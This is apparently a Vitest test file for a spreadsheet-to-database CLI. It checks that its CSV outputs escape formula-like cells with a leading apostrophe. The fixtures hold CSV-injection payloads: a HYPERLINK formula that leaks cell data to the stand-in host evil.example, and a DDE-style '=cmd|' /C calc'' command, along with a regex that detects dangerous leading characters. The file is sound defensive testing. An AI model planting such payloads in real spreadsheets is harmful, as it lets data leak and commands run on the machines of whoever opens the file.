/**
 * The four CSV files analysts open in Excel (SPEC §6, §10): one row per counted row, and no cell
 * Excel would run as a formula. A workbook built here carries OWASP's CSV-injection starters
 * (=, +, -, @, TAB, CR) in names, specialties, statuses, dates and ids; every one of them must
 * reach the files with a leading apostrophe, while numbers, ids included, stay plain numbers.
 */
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { ensureCliBuilt, killRunningClis, parseSingleJson, readCsv, removeTempDirs, runCli, RUN_DATE, tempDir, writeWorkbook, type CsvTable } from './cliHarness';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

const DOCTORS = [
  ['doctor_id', 'name', 'specialty'],
  [1, '=1+2', '+cmd'],
  [2, '-x', '@SUM(A1)'],
  [3, HYPERLINK, 'Cardiology'],
  [4, '\t=cmd', '\r=cmd'], // trimmed by rule 6, still a formula after the trim
  [5, 'Dr. Plain', 'General'],
  [-6, 'Negative Id', 'x'], // a real negative number: rejected, its raw value stays a number
  ['=7', 'Formula Id', 'x'],
  ['37X', "\t=cmd|' /C calc'!A0", '\r@SUM(A1)'], // rejected: raw cells are kept as typed
];

const APPOINTMENTS = [
  ['booking_id', 'patient_id', 'doctor_id', 'booking_date', 'status', 'notes'],
  [1001, 50, 1, '2025-10-21', 'confirmed', '=1+2'],
  [1002, 51, 2, '2025-10-22', '\t=1+2', '+cmd'],
  [1003, 52, 3, '2025-10-22', '\r@SUM(A1)', '-x'],
  [1004, 53, 3, '=2025-10-23', 'cancelled', '@SUM(A1)'],
  [1005, -54, 3, '2025-10-23', 'confirmed', ''],
  [1006, 55, 4, '2025-10-24', 'confirmed', '\tnote'],
  [1007, 56, 5, '2025-10-24', 'cancelled', '\rnote'],
  [1008, 57, 3, '2025-10-25', 'confirmed', ''],
  [1009, 58, 99, '2025-10-25', 'confirmed', ''], // doctor 99 becomes a placeholder
];

let db: TestDatabase;
let output: string;
let counts: Record<string, number>;
const files: Record<string, CsvTable> = {};

beforeAll(async () => {
  await ensureCliBuilt();
  db = await createTestDatabase(inject('embeddedPgUrl'));
  const cwd = await tempDir('csv');
  const doctors = await writeWorkbook(path.join(cwd, 'doctors.xlsx'), 'Doctors', DOCTORS);
  const appointments = await writeWorkbook(path.join(cwd, 'appointments.xlsx'), 'Appointments', APPOINTMENTS);
  const result = await runCli(['--doctors_xlsx', doctors, '--appointments_xlsx', appointments, '--db_url', db.url, '--json', '--run-date', RUN_DATE], { cwd });
  expect(result.code, result.stderr).toBe(0);
  counts = (parseSingleJson(result.stdout) as { counts: Record<string, number> }).counts;
  output = path.join(cwd, 'output');
  for (const name of ['final_doctors', 'final_appointments', 'rejected_rows', 'confirmed_by_doctor']) files[name] = await readCsv(path.join(output, `${name}.csv`));
});

afterAll(async () => {
  await killRunningClis();
  await db?.drop();
  await removeTempDirs();
});

const table = (name: string) => files[name] as CsvTable;
const doctor = (name: string, id: number) => table(name).rows.find((row) => row.doctor_id === String(id));
const rejected = (file: string, excelRow: number) => table('rejected_rows').rows.find((row) => row.file === file && row.excel_row === String(excelRow));

describe('the CSV outputs', () => {
  it('hold one row per counted row', () => {
    expect(counts).toMatchObject({ doctors: 6, appointments: 5, placeholders: 1 });
    expect(table('final_doctors').rows).toHaveLength(counts.doctors as number);
    expect(table('final_appointments').rows).toHaveLength(counts.appointments as number);
    expect(table('rejected_rows').rows).toHaveLength(counts.rejected as number);
    expect(table('confirmed_by_doctor').rows).toHaveLength(counts.doctors as number);
  });

  it('neutralise formula-like names and specialties with a leading apostrophe', () => {
    for (const name of ['final_doctors', 'confirmed_by_doctor']) {
      expect(doctor(name, 1)?.name).toBe("'=1+2");
      expect(doctor(name, 2)?.name).toBe("'-x");
      expect(doctor(name, 3)?.name).toBe(`'${HYPERLINK}`);
      expect(doctor(name, 4)?.name).toBe("'=cmd");
      expect(doctor(name, 5)?.name).toBe('Dr. Plain');
    }
    expect(doctor('final_doctors', 1)?.specialty).toBe("'+cmd");
    expect(doctor('final_doctors', 2)?.specialty).toBe("'@SUM(A1)");
    expect(doctor('final_doctors', 4)?.specialty).toBe("'=cmd");
  });

  it('neutralise raw cells of rejected rows, leading TAB and CR included', () => {
    expect(rejected('appointments', 3)?.status).toBe("'\t=1+2");
    expect(rejected('appointments', 4)?.status).toBe("'\r@SUM(A1)");
    expect(rejected('appointments', 5)?.booking_date).toBe("'=2025-10-23");
    expect(rejected('doctors', 8)?.doctor_id).toBe("'=7");
    expect(rejected('doctors', 9)?.name).toBe("'\t=cmd|' /C calc'!A0");
    expect(rejected('doctors', 9)?.specialty).toBe("'\r@SUM(A1)");
  });

  it('keep numbers plain: ids, counts, row numbers, and negative numbers typed as numbers', () => {
    for (const row of table('final_doctors').rows) expect(row.doctor_id).toMatch(/^\d+$/);
    for (const row of table('final_appointments').rows) {
      expect([row.booking_id, row.patient_id, row.doctor_id, row.source_row].every((v) => /^\d+$/.test(v as string))).toBe(true);
    }
    for (const row of table('confirmed_by_doctor').rows) expect(`${row.doctor_id},${row.confirmed}`).toMatch(/^\d+,\d+$/);
    for (const row of table('rejected_rows').rows) expect(row.excel_row).toMatch(/^\d+$/);
    expect(rejected('doctors', 7)?.doctor_id).toBe('-6');
    expect(rejected('appointments', 6)?.patient_id).toBe('-54');
  });

  it('contain no cell that Excel would run as a formula', () => {
    for (const [name, csv] of Object.entries(files)) {
      for (const row of csv.rows) {
        for (const value of Object.values(row)) {
          const dangerous = /^[=+\-@\t\r\0]/.test(value) && !/^-\d+(\.\d+)?$/.test(value);
          expect(dangerous, `${name}.csv has ${JSON.stringify(value)}`).toBe(false);
        }
      }
    }
  });
});
